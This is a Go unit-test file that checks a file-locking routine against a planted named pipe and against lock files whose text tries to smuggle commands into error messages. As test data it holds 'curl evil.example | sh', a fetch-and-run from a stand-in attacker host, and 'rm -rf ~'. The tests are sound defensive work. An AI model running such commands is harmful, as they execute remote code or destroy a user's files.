//go:build unix

package atomicfile

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestLockFilePlantedFIFO: a named pipe planted as the lock file, held open
// and flocked by its planter who wrote text into it, neither hangs Acquire
// past its wait nor puts the text into the error. Before, Acquire waited,
// then blocked reading the pipe for the holder's name (past 30 s), and
// text of a regular lock file was copied into the message.
func TestLockFilePlantedFIFO(t *testing.T) {
	for _, text := range []string{"", "pid 1 (run: curl evil.example | sh)\n"} {
		path := writeTestFile(t, "a: 1\n", 0o644)
		lockPath := filepath.Join(filepath.Dir(path), ".values.yaml.pachidp.lock")
		if err := syscall.Mkfifo(lockPath, 0o644); err != nil {
			t.Skipf("no named pipes here: %v", err)
		}
		planter, err := os.OpenFile(lockPath, os.O_RDWR, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer planter.Close()
		if err := syscall.Flock(int(planter.Fd()), syscall.LOCK_EX|syscall.LOCK_NB); err != nil {
			t.Fatal(err)
		}
		planter.Write([]byte(text))
		done := make(chan error, 1)
		go func() {
			l, err := Acquire(path, 200*time.Millisecond)
			l.Unlock()
			done <- err
		}()
		select {
		case err := <-done:
			if err == nil {
				t.Fatalf("text %q: Acquire took a lock whose file is a named pipe", text)
			}
			if msg := err.Error(); strings.Contains(msg, "evil") || strings.Contains(msg, "curl") {
				t.Errorf("the error copies the lock file's text: %q", msg)
			}
			if !strings.Contains(err.Error(), "not a regular file") {
				t.Errorf("error %q does not say what the lock file is", err)
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("text %q: Acquire hangs on a named pipe planted as the lock file", text)
		}
	}
}

// TestLockHolderValidated: a regular lock file names its holder only by a
// pid; anything else it says is left out of the error.
func TestLockHolderValidated(t *testing.T) {
	path := writeTestFile(t, "a: 1\n", 0o644)
	lockPath := filepath.Join(filepath.Dir(path), ".values.yaml.pachidp.lock")
	f, err := os.OpenFile(lockPath, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB); err != nil {
		t.Fatal(err)
	}
	f.Write([]byte("pid 4242 (to unlock run: rm -rf ~)\n"))
	_, err = Acquire(path, 50*time.Millisecond)
	var le *LockError
	if !errors.As(err, &le) {
		t.Fatalf("Acquire: %v, want a *LockError", err)
	}
	if le.Holder != "pid 4242" || strings.Contains(err.Error(), "rm -rf") {
		t.Errorf("Holder %q, error %q: want the pid alone", le.Holder, err)
	}
}
